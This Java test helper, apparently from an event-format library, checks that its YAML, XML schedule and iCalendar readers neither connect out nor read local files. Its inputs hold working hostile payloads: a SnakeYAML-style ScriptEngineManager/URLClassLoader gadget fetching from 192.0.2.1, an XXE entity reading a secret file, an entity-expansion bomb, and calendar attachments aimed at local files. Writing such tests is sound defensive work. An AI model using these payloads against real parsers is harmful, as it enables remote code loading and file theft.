package dev.meetupkit.cli;

import dev.meetupkit.Event;
import dev.meetupkit.fixtures.Fixture;
import dev.meetupkit.ical.CalendarReader;
import dev.meetupkit.ical.CalendarWriter;
import dev.meetupkit.json.EventJson;
import dev.meetupkit.json.JsonLd;
import dev.meetupkit.json.schedule.ScheduleReader;
import dev.meetupkit.json.schedule.ScheduleWriter;
import dev.meetupkit.load.MeetupLoader;
import dev.meetupkit.write.MeetupWriter;
import java.io.IOException;
import java.net.Proxy;
import java.net.ProxySelector;
import java.net.SocketAddress;
import java.net.URI;
import java.time.Instant;
import java.time.ZoneId;
import java.util.List;
import java.util.Properties;

/** Reads and writes in a JVM that refuses every connection; run by {@link SecurityTest}. */
final class Confined {

    private static final ZoneId ZONE = ZoneId.of("Asia/Shanghai");

    private Confined() {}

    /** Takes the address of a file whose content must not be seen. */
    public static void main(String[] arguments) {
        String secret = arguments[0];
        ProxySelector.setDefault(new ProxySelector() {
            @Override
            public List<Proxy> select(URI uri) {
                throw new AssertionError("somebody connects to " + uri);
            }

            @Override
            public void connectFailed(URI uri, SocketAddress address, IOException e) {
                throw new AssertionError("somebody connected to " + uri);
            }
        });
        Properties before = (Properties) System.getProperties().clone();
        for (Fixture fixture : Fixture.values()) {
            everyFormat(MeetupLoader.in(ZONE).load(fixture.markdown()).orThrow());
        }
        String read = hostileDocument(secret) + hostileSchedule(secret) + hostileCalendar(secret);
        require(!read.contains("the secret"), "a file was read: " + read);
        require(before.equals(System.getProperties()), "a system property was written");
        System.out.println("nothing reached");
    }

    private static void everyFormat(Event event) {
        Event named = Event.builder().from(event).id("2026/05").build();
        EventJson json = EventJson.compact();
        String calendar = CalendarWriter.stampedAt(Instant.EPOCH)
                .under("https://example.org/")
                .carrying(json::writeBytes)
                .write(named)
                .text();
        CalendarReader.in(ZONE).carrying(json::read).read(calendar);
        json.read(json.write(named));
        JsonLd.compact().write(named);
        String schedule = ScheduleWriter.standard()
                .under("https://example.org/")
                .xml(named)
                .text();
        ScheduleReader.in(ZONE).read(schedule);
        MeetupWriter.standard().write(named);
    }

    /** Tags that other readers of YAML make objects of, and images that other readers load. */
    private static String hostileDocument(String secret) {
        return MeetupLoader.in(ZONE).load("""
                ---
                title: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://192.0.2.1/"]]]]
                place: !!java.io.File [%1$s]
                ---

                # Mesh Night

                ![logo](http://192.0.2.1/logo.png) <img src="%1$s"> [slides](%1$s) {{< include "%1$s" >}}

                Venue: http://192.0.2.1/
                """.formatted(secret)).toString();
    }

    /** Entities from outside, and some that grow. */
    private static String hostileSchedule(String secret) {
        String document = """
                <?xml version="1.0"?>
                <!DOCTYPE schedule SYSTEM "http://192.0.2.1/schedule.dtd" [
                <!ENTITY secret SYSTEM "%s">
                <!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">
                ]>
                <schedule><conference><title>&secret;&c;</title></conference></schedule>
                """.formatted(secret);
        return ScheduleReader.in(ZONE).read(document).toString();
    }

    /** What is attached stays where it is. */
    private static String hostileCalendar(String secret) {
        return CalendarReader.in(ZONE)
                .read("""
                BEGIN:VCALENDAR
                VERSION:2.0
                PRODID:-//example//EN
                BEGIN:VEVENT
                UID:1
                DTSTAMP:20260101T000000Z
                DTSTART:20260507T190000Z
                SUMMARY:Mesh Night
                ATTACH:%1$s
                ATTACH:http://192.0.2.1/
                DESCRIPTION;ALTREP="%1$s":text
                END:VEVENT
                END:VCALENDAR
                """.formatted(secret).replace("\n", "\r\n"))
                .toString();
    }

    private static void require(boolean condition, String message) {
        if (!condition) {
            throw new AssertionError(message);
        }
    }
}
